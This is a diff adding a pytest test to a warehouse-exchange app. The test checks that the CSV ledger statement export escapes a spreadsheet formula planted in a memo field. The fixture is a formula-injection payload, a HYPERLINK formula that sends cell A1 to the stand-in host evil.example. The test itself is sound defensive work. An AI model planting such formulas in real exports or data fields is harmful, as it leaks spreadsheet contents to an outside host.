@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, date, datetime, timedelta
 
 import pytest
@@ -14,6 +16,8 @@ from warehouse_exchange.bookings.services import BookingRequest, accept_booking,
 from warehouse_exchange.escrow.models import BankReceipt, Refund
 from warehouse_exchange.escrow.rules import payment_reference, release_schedule
 from warehouse_exchange.extensions import db
+from warehouse_exchange.ledger import services as ledger
+from warehouse_exchange.ledger.services import Leg
 from warehouse_exchange.money import Money
 
 NOW = datetime.now(UTC)
@@ -226,6 +230,27 @@ def test_released_earnings_are_paid_out_and_every_movement_is_on_the_statement(
         tenant_lines[-1]["balance"]["amount_minor"]
         == booking.subtotal_minor - released["amount_minor"]
     )
+
+
+def test_statement_text_a_spreadsheet_would_run_is_kept_as_text(client, booking, exporter):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    ledger.post(
+        "hostile-memo",
+        "payment",
+        [
+            Leg(ledger.clearing("bank", "EUR"), -500),
+            Leg(ledger.escrow(exporter.organization_id, "EUR"), 500, booking.id),
+        ],
+        booking_id=booking.id,
+        memo=hostile,
+    )
+    login(client, exporter)
+    response = client.get("/statement.csv")
+    assert response.content_type == "text/csv; charset=utf-8"
+    assert response.headers["Content-Disposition"] == "attachment; filename=statement.csv"
+    (line,) = csv.DictReader(io.StringIO(response.get_data(as_text=True)))
+    assert line["memo"] == f"'{hostile}"
+    assert line["amount"] == "5.00"
 
 
 def test_payouts_to_no_one_are_refused(client, operator):
